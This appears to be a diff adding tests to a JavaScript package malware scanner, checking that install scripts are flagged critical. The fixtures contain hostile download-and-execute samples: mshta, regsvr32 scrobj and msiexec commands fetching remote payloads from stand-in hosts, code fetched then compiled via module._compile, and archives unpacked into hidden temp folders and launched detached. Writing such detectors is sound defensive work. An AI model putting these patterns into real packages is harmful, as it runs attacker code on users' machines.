@@ -2149,6 +2149,63 @@ module.exports = (bucket, file) => new S3Client({}).send(new PutObjectCommand({ 
   });
 });
 
+describe('download and run: Windows programs given a URL, a named callback, an unpacked archive', () => {
+  const install = (files: Record<string, string>) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), ...files });
+  it('mshta, regsvr32 /i: and msiexec /i on a URL run what they fetch; their local uses do not', () => {
+    for (const cmd of [
+      'mshta https://dl.example-cdn.org/a.hta',
+      'regsvr32 /s /n /u /i:http://198.51.100.7/f.sct scrobj.dll',
+      'msiexec /q /i http://198.51.100.7/p.msi',
+    ]) {
+      const r = install({ 'setup.js': `require('child_process').exec(${JSON.stringify(cmd)});` });
+      expect(r.risk_level).toBe('critical');
+      expect(threatsOf(r)).toContain('install_script_injection');
+    }
+    for (const cmd of ['msiexec /x {1234-5678} /q', 'regsvr32 /s mylib.dll'])
+      expect(
+        threatsOf(
+          analyzeSource({ 'package.json': pkg(), 'index.js': `require('child_process').exec('${cmd}');` }),
+        ),
+      ).toEqual([]);
+  });
+  it('a payload fetched in one file, handed by name to .then and compiled in another', () => {
+    const r = install({
+      'setup.js': `const { fetchPayload } = require('./lib/net'); const { runIt } = require('./lib/run'); fetchPayload().then(runIt);`,
+      'lib/net.js': `const https = require('https');
+exports.fetchPayload = () => new Promise((ok) => https.get('https://pkg-assets.example.dev/x', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); }));`,
+      'lib/run.js': `exports.runIt = (src) => { const m = new module.constructor(); m._compile(src, 'x.js'); };`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('an archive downloaded, unpacked into a hidden temporary folder and a file from it started', () => {
+    for (const code of [
+      `const { pipeline } = require('stream/promises'); const https = require('https'); const zlib = require('zlib');
+const tar = require('tar'); const { spawn } = require('child_process'); const os = require('os'); const path = require('path');
+const dir = path.join(os.tmpdir(), '.cache-' + process.pid);
+https.get('https://release-mirror.example.org/agent-linux.tgz', async (res) => {
+  await pipeline(res, zlib.createGunzip(), tar.x({ cwd: dir }));
+  spawn(path.join(dir, 'agent'), [], { detached: true, stdio: 'ignore' }).unref();
+});`,
+      `const AdmZip = require('adm-zip'); const os = require('os'); const cp = require('child_process');
+fetch('https://dl.example-cdn.org/k.zip').then((r) => r.arrayBuffer()).then((b) => { const z = new AdmZip(Buffer.from(b)); const d = os.tmpdir() + '/.k'; z.extractAllTo(d, true); cp.execFile(d + '/k.exe'); });`,
+    ]) {
+      const r = install({ 'setup.js': code });
+      expect(r.risk_level).toBe('critical');
+      expect(threatsOf(r)).toContain('install_script_injection');
+    }
+  });
+  it('a tool unpacked into its own bin folder and asked for its version is an installer', () => {
+    const r = install({
+      'setup.js': `const https = require('https'); const tar = require('tar'); const path = require('path'); const { execFileSync } = require('child_process');
+const dir = path.join(__dirname, 'bin');
+https.get('https://releases.example.com/tool-1.2.3.tgz', (res) => { res.pipe(tar.x({ cwd: dir })).on('finish', () => execFileSync(path.join(dir, 'tool'), ['--version'])); });`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
